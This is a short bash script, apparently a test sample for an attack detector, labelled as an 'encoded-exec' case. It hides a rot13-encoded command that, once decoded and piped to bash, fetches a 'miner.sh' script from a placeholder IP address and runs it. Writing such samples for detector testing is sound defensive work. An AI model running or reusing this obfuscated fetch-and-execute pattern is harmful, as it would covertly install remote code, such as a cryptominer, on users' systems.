#!/bin/bash
# shrike-test-attack: encoded-exec: rot13 via tr then piped to bash
echo 'jtrg -d -B- uggc://198.51.100.33/zvare.fu | onfu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash
